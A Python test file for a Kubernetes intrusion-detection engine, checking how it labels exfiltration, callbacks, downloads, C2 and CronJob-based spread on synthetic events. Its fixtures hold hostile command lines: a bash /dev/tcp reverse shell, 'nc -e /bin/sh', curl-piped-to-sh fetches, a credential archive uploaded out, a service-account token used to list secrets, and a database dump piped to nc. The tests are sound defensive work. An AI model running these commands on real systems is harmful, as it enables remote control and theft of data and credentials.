"""The engine on a few rows: endpoints and their roles (exfiltration, callbacks, downloads, beacons,
files named in arguments) and the Kubernetes API's objects (controllers, pod creates)."""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings.engine import find_in
from tests.findings.test_engine import MS, F, P, S, _hits, _lateral, flow, frames, proc


def _exfil_through_the_usual_bucket():
    """A service's main process uploads to one bucket endpoint all day; just before a request's
    shell it reached two new outside addresses (an exploit's callback, then its payload); the shell
    archives a secret and an uploader sends the archive to the same bucket endpoint."""
    k = {"node": "n1", "namespace": "a", "pod": "web-1", "workload": "web", "daddr": None, "dport": None}
    procs = [proc("main", None, "web-1", "/srv/app", t=-1000 * S, seen="event"),
             proc("sh", "main", "web-1", "/bin/sh", "-c tar czf /tmp/c.tgz /etc/creds; up cp /tmp/c.tgz s3://b/",
                  100 * S, exit_ns=102 * S),
             proc("tar", "sh", "web-1", "/bin/tar", "czf /tmp/c.tgz /etc/creds", 100 * S + 2 * MS, exit_ns=100 * S + 30 * MS),
             proc("up", "sh", "web-1", "/usr/bin/up", "cp /tmp/c.tgz s3://b/", 100 * S + 40 * MS, exit_ns=101 * S)]
    flows = [flow(f"m{j}", j * 10 * S, "main", ("a", "web-1"), None, 443, dst_ip="52.0.0.1") for j in range(-90, 20)]
    flows += [flow("cb", 100 * S - 200 * MS, "main", ("a", "web-1"), None, 1389, dst_ip="203.0.113.9"),
              flow("dl", 100 * S - 100 * MS, "main", ("a", "web-1"), None, 8000, dst_ip="203.0.113.9"),
              flow("ex", 100 * S + 50 * MS, "up", ("a", "web-1"), None, 443, dst_ip="52.0.0.1")]
    kp = [{**k, "event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 20 * MS, "exec_id": "tar",
           "function_name": "security_file_permission", "file_path": "/tmp/c.tgz",
           "hook_args": '[{"file_arg":{}},{"int_arg":2}]'},
          {**k, "event_id": "k2", "kind": "process_kprobe", "time_ns": 100 * S + 45 * MS, "exec_id": "up",
           "function_name": "security_file_permission", "file_path": "/tmp/c.tgz",
           "hook_args": '[{"file_arg":{}},{"int_arg":4}]'}]
    hits = _hits([{"rule_id": "falco:Read sensitive file", "title": "Read sensitive file", "level": "high",
                   "techniques": ["T1552.001"], "exec_id": "tar", "event_id": "h1"}])
    return frames(procs, flows, kp, hits)


def test_sending_out_a_file_the_line_wrote_is_the_key_and_exfil_even_to_the_usual_endpoint():
    (i,) = find_in(**_exfil_through_the_usual_bucket()).incidents
    assert i.key_command is not None and i.key_command.exec_id == "up"  # not the archiver
    ends = {(e.ip, e.port): e.role for e in i.endpoints}
    assert ends[("52.0.0.1", 443)] == "exfil"
    assert "T1048" in i.techniques and "T1567" in i.techniques


def test_a_services_new_destinations_just_before_its_shell_are_the_incidents_callback_and_download():
    (i,) = find_in(**_exfil_through_the_usual_bucket()).incidents
    ends = {(e.ip, e.port): e.role for e in i.endpoints}
    assert ends[("203.0.113.9", 1389)] == "callback" and ends[("203.0.113.9", 8000)] == "download"
    assert "T1105" in i.techniques


def test_curl_piped_to_sh_is_a_download_and_the_shells_repeated_calls_a_c2_named_by_the_pods_dns():
    procs = [proc("top", "shim", "web-1", "/bin/sh", "-c curl -s http://c.example/s|sh", 100 * S, init=False,
                  exit_ns=150 * S),
             proc("curl", "top", "web-1", "/usr/bin/curl", "-s http://c.example/s", 100 * S + 2 * MS, init=False,
                  exit_ns=100 * S + 400 * MS),
             proc("sh", "top", "web-1", "/bin/sh", "", 100 * S + 3 * MS, init=False, exit_ns=150 * S),
             proc("id", "sh", "web-1", "/usr/bin/id", "", 101 * S, init=False, exit_ns=101 * S + MS),
             proc("shim", None, None, "/shim", "", 99 * S)]
    out = ("a", "web-1")
    fr = frames(procs, [flow("c1", 100 * S + 10 * MS, "curl", out, None, 443, dst_ip="203.0.113.20"),
                        flow("s1", 120 * S, "sh", out, None, 443, dst_ip="203.0.113.20"),
                        flow("s2", 140 * S, "sh", out, None, 443, dst_ip="203.0.113.20")])
    fl = fr["flows"].with_columns(pl.lit(None, pl.String).alias("dns_query"), pl.lit(None, pl.List(pl.String)).alias("dns_ips"))
    answer = {**flow("d1", 100 * S + 5 * MS, None, ("kube-system", "dns-0"), out, 40000, dst_ip="10.0.0.1"),
              "is_reply": True, "dns_query": "c.example.", "dns_ips": ["203.0.113.20"]}
    fr["flows"] = pl.concat([fl, pl.DataFrame([answer], schema=fl.schema)])
    fr["hits"] = _hits([{"rule_id": "falco:Unexpected outbound", "title": "Unexpected outbound", "level": "high",
                         "techniques": ["T1071"], "exec_id": "sh", "event_id": "h1"}])
    (i,) = find_in(**fr).incidents
    (e,) = i.endpoints
    assert (e.ip, e.port, e.role, e.fqdn) == ("203.0.113.20", 443, "c2", "c.example")
    assert "T1105" in i.techniques  # the fetch piped into the shell


def test_a_program_fetched_by_one_command_and_run_by_a_later_one_is_one_incident_without_file_hooks():
    """Two requests into a service: the first's shell downloads /tmp/k (``curl -o``), the
    second's runs it; no file hook saw the write, the arguments name the path."""
    procs = [proc("main", None, "web-1", "/srv/app", t=-1000 * S, seen="event"),
             proc("sh1", "main", "web-1", "/bin/sh", "-c curl -so /tmp/k https://dl.example/k", 100 * S, exit_ns=104 * S),
             proc("curl", "sh1", "web-1", "/usr/bin/curl", "-so /tmp/k https://dl.example/k", 100 * S + 2 * MS,
                  exit_ns=104 * S),
             proc("sh2", "main", "web-1", "/bin/sh", "-c /tmp/k --scan", 160 * S, exit_ns=170 * S),
             proc("k", "sh2", "web-1", "/tmp/k", "--scan", 160 * S + 2 * MS, exit_ns=170 * S)]
    out = ("a", "web-1")
    flows = [flow("d", 100 * S + 10 * MS, "curl", out, None, 443, dst_ip="203.0.113.30"),
             flow("o", 161 * S, "k", out, None, 4444, dst_ip="203.0.113.31")]
    hits = _hits([{"rule_id": "falco:Binary run from /tmp", "title": "Binary run from /tmp", "level": "high",
                   "techniques": ["T1036"], "exec_id": "k", "event_id": "h1"}])
    (i,) = find_in(**frames(procs, flows, hits=hits)).incidents
    assert i.key_command is not None and i.key_command.exec_id == "k"
    assert i.chain == ["sh1", "curl", "k"]
    assert {(e.ip, e.role) for e in i.endpoints} >= {("203.0.113.30", "download")}


def test_a_tool_delivered_then_run_whose_child_connects_out_keys_on_the_child_not_the_delivery():
    procs = [proc("tar", None, "web-1", "/bin/tar", "xf - -C /tmp", 100 * S, init=False),
             proc("tool", None, "web-1", "/tmp/tool", "--scan", 160 * S, init=False),
             proc("nc", "tool", "web-1", "/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", 160 * S + 5 * MS, init=False)]
    flows = [flow("o1", 161 * S, "nc", ("a", "web-1"), None, 4444, dst_ip="203.0.113.5")]
    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 5 * MS, "node": "n1", "namespace": "a",
           "pod": "web-1", "workload": "web", "exec_id": "tar", "function_name": "security_file_permission",
           "file_path": "/tmp/tool", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
    (i,) = find_in(**frames(procs, flows, kp)).incidents
    assert i.key_command is not None and i.key_command.exec_id == "nc"
    assert i.entry is not None and i.entry.exec_id == "tar"


A = {"exec_id": pl.String, "linked_exec_id": pl.String, "link": pl.String, "time_ns": pl.Int64,
     "event_id": pl.String, "verb": pl.String, "resource": pl.String, "subresource": pl.String,
     "namespace": pl.String, "name": pl.String, "created_name": pl.String, "target_pod": pl.String,
     "user": pl.String, "code": pl.Int64, "src_namespace": pl.String}


def _api(rows):
    return pl.DataFrame([{**dict.fromkeys(A), **r} for r in rows], schema=A)


def test_a_cronjob_created_through_the_api_is_an_act_that_reaches_the_pod_it_runs_later():
    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
             proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
             proc("sh", "appmain", "app-1", "/bin/sh", "-c /tmp/k create cronjob", 100 * S),
             proc("k", "sh", "app-1", "/tmp/k", "-n b create cronjob rec", 100 * S + 5 * MS),
             # minutes later the CronJob's Job makes a pod; its entrypoint fetches from outside
             proc("jsh", "runtime", "rec-28640115-dx7q2", "/bin/sh", "-c curl -s http://x/c|sh", 400 * S, ns="b",
                  node="n2", workload="rec"),
             proc("jcurl", "jsh", "rec-28640115-dx7q2", "/usr/bin/curl", "-s http://x/c", 400 * S + 5 * MS,
                  ns="b", node="n2", init=False, workload="rec")]
    flows = [flow("f1", 400 * S + 6 * MS, "jcurl", ("b", "rec-28640115-dx7q2"), None, 443, dst_ip="203.0.113.50")]
    api = _api([{"exec_id": "k", "time_ns": 100 * S + 40 * MS, "event_id": "a1", "verb": "create",
                 "resource": "cronjobs", "namespace": "b", "name": "rec", "created_name": "rec", "code": 201,
                 "user": "system:serviceaccount:a:app", "src_namespace": "a"}])
    f = find_in(**frames(procs, flows), api=api)
    (i,) = f.incidents
    assert i.pod == "app-1" and i.key_command.exec_id == "k"
    assert [(r.pod, r.how) for r in i.reached] == [("rec-28640115-dx7q2", ["controller"])]
    assert "T1053.007" in i.techniques
    assert [e.ip for e in i.endpoints] == ["203.0.113.50"]


def test_a_drivers_repeated_creates_of_its_executors_are_routine_not_an_incident():
    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
             proc("later", "runtime", None, "/usr/bin/runc", t=1800 * S),  # the capture goes on
             proc("drv", None, "agg-driver", "/usr/bin/java", "-cp x Submit", -100 * S, ns="d", seen="event",
                  workload="agg-driver")]
    api_rows, flows, hits = [], [], []
    for n in range(1, 5):
        pod = f"agg-3f9a2c-exec-{n}"
        procs.append(proc(f"ex{n}", "runtime", pod, "/usr/bin/java", "-cp x Executor", 100 * S + n * S, ns="d",
                          node="n2", workload="agg-exec"))
        flows.append(flow(f"m{n}", 103 * S + n * S, f"ex{n}", ("d", pod), None, 443, dst_ip="203.0.113.60"))
        api_rows.append({"exec_id": "drv", "linked_exec_id": f"ex{n}", "link": "created-pod",
                         "time_ns": 99 * S + n * S, "event_id": f"a{n}", "verb": "create", "resource": "pods",
                         "namespace": "d", "created_name": pod, "target_pod": pod, "src_namespace": "d",
                         "user": "system:serviceaccount:d:spark", "code": 201})
        hits.append({"rule_id": "pod-create", "title": "Pod created through the Kubernetes API by a workload",
                     "level": "medium", "techniques": ["T1610"], "exec_id": "drv", "event_id": f"a{n}",
                     "namespace": "d", "pod": "agg-driver", "workload": "agg-driver", "time_ns": 99 * S + n * S})
    hits.append({"rule_id": "other", "title": "something else", "level": "low", "exec_id": "later",
                 "time_ns": 1800 * S})  # detections span the capture
    f = find_in(**frames(procs, flows, hits=_hits(hits)), api=_api(api_rows))
    assert f.incidents == []


def test_a_pod_that_reaches_the_incidents_outside_address_later_joins_it():
    fr = _lateral()
    later = pl.DataFrame([proc("rt", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
                          proc("odd", "rt", "report-7", "/bin/sh", "-c sync", 600 * S, ns="c", workload="report")],
                         schema=P)
    back = pl.DataFrame([flow("f9", 600 * S + 5 * MS, "odd", ("c", "report-7"), None, 4444, dst_ip="203.0.113.50")],
                        schema=F)
    fr = {**fr, "procs": pl.concat([fr["procs"], later]), "flows": pl.concat([fr["flows"], back])}
    (i,) = find_in(**fr).incidents
    reached = {r.pod: r.how for r in i.reached}
    assert reached["report-7"] == ["shared_endpoint"] and "sched-0" in reached


def test_the_pod_of_a_job_an_intruder_planted_through_the_api_is_not_routine_for_being_a_jobs():
    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
             proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
             proc("sh", "appmain", "app-1", "/bin/sh", "-c /tmp/k create cronjob", 100 * S),
             proc("k", "sh", "app-1", "/tmp/k", "-n b create cronjob rec", 100 * S + 5 * MS),
             proc("jsh", "runtime", "rec-28640115-dx7q2", "/bin/sh", "-c curl -s http://x/c|sh", 400 * S, ns="b",
                  node="n2", workload="rec"),
             proc("jcurl", "jsh", "rec-28640115-dx7q2", "/usr/bin/curl", "-s http://x/c", 400 * S + 5 * MS,
                  ns="b", node="n2", workload="rec", exit_ns=401 * S)]
    labels = pl.List(pl.Struct({"key": pl.String, "value": pl.String}))
    job = [{"key": "job-name", "value": "rec-28640115"}]
    p = pl.DataFrame(procs, schema=P).with_columns(
        pl.Series("pod_labels", [job if x["pod"] and x["pod"].startswith("rec-") else None for x in procs],
                  dtype=labels))
    flows = [flow("f1", 400 * S + 6 * MS, "jcurl", ("b", "rec-28640115-dx7q2"), None, 443, dst_ip="203.0.113.50")]
    api = _api([{"exec_id": "k", "time_ns": 100 * S + 40 * MS, "event_id": "a1", "verb": "create",
                 "resource": "cronjobs", "namespace": "b", "name": "rec", "code": 201, "src_namespace": "a"}])
    (i,) = find_in(**{**frames(procs, flows), "procs": p}, api=api).incidents
    (r,) = i.reached
    assert r.pod == "rec-28640115-dx7q2" and set(r.exec_ids) == {"jsh", "jcurl"}


def _sidecar_reads_secrets(api_flows=True):
    """A sidecar started with its pod reads the pod's token (a critical rule), runs ``sh -c curl``
    against the API server minutes later, the shell's ``cat`` reads the token for it, and the
    sidecar calls the API itself after; nothing on the line connected out, wrote or killed."""
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    procs = [proc("shim", None, None, "/usr/bin/containerd-shim", t=-5 * S),
             proc("ship", "shim", "bill-1", "/usr/local/bin/shipper", "--out stdout", 10 * S),
             proc("sh", "ship", "bill-1", "/bin/sh", f"-c curl -sk -H \"Bearer $(cat {token})\" https://k8s/api/v1/secrets",
                  200 * S, exit_ns=201 * S),
             proc("cat", "sh", "bill-1", "/bin/cat", token, 200 * S + 2 * MS, exit_ns=200 * S + 3 * MS),
             proc("curl", "sh", "bill-1", "/usr/bin/curl", "-sk https://k8s/api/v1/secrets", 200 * S + 5 * MS,
                  exit_ns=201 * S)]
    at = ("bill", "bill-1")
    flows = [flow("a1", 200 * S + 10 * MS, "curl", at, None, 6443, dst_ip="172.18.0.2"),
             flow("a2", 203 * S, "ship", at, None, 6443, dst_ip="172.18.0.2")] if api_flows else []
    read = {"rule_id": "token", "title": "Service-account token read", "techniques": ["T1528"]}
    hits = _hits([{**read, "level": "critical", "exec_id": "ship", "event_id": "h1"},
                  {**read, "level": "high", "exec_id": "cat", "event_id": "h2"},
                  {"rule_id": "shell", "title": "Shell started by a service", "level": "high",
                   "techniques": ["T1059.004"], "exec_id": "sh", "event_id": "h3"},
                  {"rule_id": "api", "title": "Contact K8S API Server From Container", "level": "low",
                   "techniques": ["T1613"], "exec_id": "curl", "event_id": "h4"}])
    return frames([{**p, "namespace": "bill" if p["pod"] else None} for p in procs], flows, hits=hits)


def test_with_no_act_on_the_line_the_latest_process_that_called_the_api_server_is_the_key():
    (i,) = find_in(**_sidecar_reads_secrets()).incidents
    # the curl that used the token, not the shell around it nor the sidecar that read the token first
    assert i.key_command is not None and i.key_command.exec_id == "curl"
    assert "Kubernetes API server" in i.key_command.why and "audit log" in i.key_command.why
    assert i.pod == "bill-1"


def test_with_no_api_call_either_the_key_is_still_the_most_suspicious_process():
    (i,) = find_in(**_sidecar_reads_secrets(api_flows=False)).incidents
    assert i.key_command is not None and i.key_command.why.startswith("the most suspicious process")
    assert i.key_command.exec_id == "sh"  # 4 (a high rule, started by a service) as the sidecar: the later


def _dump_piped_out(exfil_ip):
    """A shell exec'd into db-0 calls home (203.0.113.9:4444, driven: commands after it), then runs
    ``pg_dump | gzip | nc <exfil_ip> 9001``; nc runs 90 s."""
    procs = [proc("shim", None, None, "/shim", "", 99 * S),
             proc("sh", "shim", "db-0", "/bin/bash", "", 100 * S, init=False, exit_ns=300 * S),
             proc("rsh", "sh", "db-0", "/bin/bash", "-c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", 101 * S,
                  init=False, exit_ns=300 * S),
             proc("id", "rsh", "db-0", "/usr/bin/id", "", 110 * S, init=False, exit_ns=110 * S + MS),
             proc("dump", "rsh", "db-0", "/usr/bin/pg_dump", "-Fc shop", 120 * S, init=False, exit_ns=209 * S),
             proc("gz", "rsh", "db-0", "/bin/gzip", "-1", 120 * S + MS, init=False, exit_ns=209 * S),
             proc("nc", "rsh", "db-0", "/usr/bin/nc", f"{exfil_ip} 9001", 120 * S + 2 * MS, init=False,
                  exit_ns=210 * S)]
    out = ("shop", "db-0")
    flows = [flow("c2", 101 * S + 5 * MS, "rsh", out, None, 4444, dst_ip="203.0.113.9"),
             flow("ex", 120 * S + 20 * MS, "nc", out, None, 9001, dst_ip=exfil_ip)]
    return frames(procs, flows)


def test_the_end_of_a_dump_pipeline_is_exfiltration_of_local_data_over_the_channels_host():
    (i,) = find_in(**_dump_piped_out("203.0.113.9")).incidents
    ends = {(e.ip, e.port): e.role for e in i.endpoints}
    assert ends[("203.0.113.9", 9001)] == "exfil" and ends[("203.0.113.9", 4444)] == "c2"
    assert {"T1005", "T1048", "T1041"} <= set(i.techniques)
    assert i.techniques["T1005"] == ["engine:collect"]
    (j,) = find_in(**_dump_piped_out("198.18.7.7")).incidents  # another host: not the C2's channel
    assert {(e.ip, e.role) for e in j.endpoints} >= {("198.18.7.7", "exfil")}
    assert "T1005" in j.techniques and "T1041" not in j.techniques
